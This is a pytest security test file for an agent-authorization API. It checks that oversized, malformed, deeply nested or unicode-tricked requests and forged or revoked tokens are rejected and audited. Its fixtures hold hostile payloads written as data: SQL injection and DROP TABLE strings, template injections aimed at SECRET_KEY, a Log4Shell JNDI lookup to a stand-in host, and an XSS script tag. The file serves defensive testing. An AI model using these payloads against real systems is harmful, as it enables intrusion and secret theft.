"""Hostile input gets a clean 4xx, and an audit record where it touches a session."""

from __future__ import annotations

import json

import pytest
from rest_framework.test import APIClient

from agents import sessions
from audit.models import AuditEvent
from demo_systems.models import Customer
from tests.api.conftest import bearer

pytestmark = pytest.mark.django_db


def post_raw(token: str, path: str, body: bytes) -> object:
    return bearer(APIClient(), token).generic("POST", path, body, content_type="application/json")


def test_an_oversized_body_is_413(start) -> None:
    token = start()["token"]
    response = post_raw(
        token, "/api/v1/authorize", json.dumps({"action": "x", "params": {"p": "a" * 2_000_000}}).encode()
    )
    assert response.status_code == 413 and response.json()["type"] == "urn:warden:problem:too-large"


@pytest.mark.parametrize("depth", [40, 100_000])
def test_deeply_nested_json_is_400(start, depth) -> None:
    token = start()["token"]
    body = b'{"action": "crm.get_customer", "params": ' + b"[" * depth + b"]" * depth + b"}"
    response = post_raw(token, "/api/v1/authorize", body)
    assert response.status_code == 400 and "nested deeper" in response.json()["detail"]


def test_malformed_json_and_wrong_media_type(start) -> None:
    token = start()["token"]
    assert post_raw(token, "/api/v1/authorize", b'{"action": ').status_code == 400
    form = bearer(APIClient(), token).post("/api/v1/authorize", "action=x", content_type="text/plain")
    assert form.status_code == 415


@pytest.mark.parametrize(
    "action",
    [
        "crm.get\u200bcustomer",
        "crm.get_customer\u0000",
        "ｃｒｍ.get_customer",
        "crm.get_cust\u043ember",
        "CRM.GET_CUSTOMER",
        "../crm.get_customer",
        "crm.get_customer; DROP TABLE audit_auditevent",
    ],
)
def test_unicode_tricks_in_action_names_are_denied_and_audited(start, action) -> None:
    token = start()["token"]
    response = bearer(APIClient(), token).post(
        "/api/v1/authorize", {"action": action, "params": {"customer_id": "C-1001"}}, format="json"
    )
    assert response.status_code in (200, 400)
    if response.status_code == 200:
        assert response.json()["decision"] == "deny"
        assert AuditEvent.objects.filter(kind="action.denied").count() == 1


@pytest.mark.parametrize(
    "value",
    [
        "C-1001' OR '1'='1",
        "C-1001; DROP TABLE demo_systems_customer; --",
        "{{ settings.SECRET_KEY }}",
        "{% debug %}",
        "${jndi:ldap://evil.test/a}",
        "<script>alert(1)</script>",
    ],
)
def test_injection_in_parameters_is_only_data(start, value) -> None:
    token = start()["token"]
    response = bearer(APIClient(), token).post(
        "/api/v1/authorize", {"action": "crm.get_customer", "params": {"customer_id": value}}, format="json"
    )
    assert response.status_code == 200 and response.json()["decision"] == "deny"  # fails the schema's pattern
    assert Customer.objects.count() == 3
    event = AuditEvent.objects.get(kind="action.denied")
    assert "SECRET" not in json.dumps(event.details).replace("settings.SECRET_KEY", "")


@pytest.mark.parametrize("token", ["wst_forged", "wst_" + "A" * 43, "Bearer", "wak_x", ""])
def test_forged_tokens_are_401(demo, token) -> None:
    response = bearer(APIClient(), token).post("/api/v1/authorize", {"action": "x", "params": {}}, format="json")
    assert response.status_code == 401 and response["Content-Type"] == "application/problem+json"


def test_expired_and_revoked_tokens_are_401_and_audited(start) -> None:
    from datetime import timedelta

    from django.utils import timezone

    from agents.models import AgentSession, SessionToken

    started = start()
    SessionToken.objects.filter(session_id=started["session_id"]).update(expires_at=timezone.now() - timedelta(1))
    assert (
        bearer(APIClient(), started["token"])
        .post("/api/v1/authorize", {"action": "x", "params": {}}, format="json")
        .status_code
        == 401
    )
    other = start()
    sessions.terminate(AgentSession.objects.get(pk=other["session_id"]), reason="test", actor="user:bob")
    revoked = bearer(APIClient(), other["token"]).post(
        "/api/v1/authorize", {"action": "x", "params": {}}, format="json"
    )
    assert revoked.status_code == 401 and "revoked" in revoked.json()["detail"]
    assert AuditEvent.objects.filter(kind="alert.raised").exists()  # a revoked token used again is an alert


def test_a_revoked_agent_key_cannot_start_sessions(demo, agent_key) -> None:
    from django.utils import timezone

    from agents.models import AgentKey

    AgentKey.objects.update(revoked_at=timezone.now())
    response = bearer(APIClient(), agent_key).post("/api/v1/sessions/", {"workflow": "refund-triage"}, format="json")
    assert response.status_code == 401
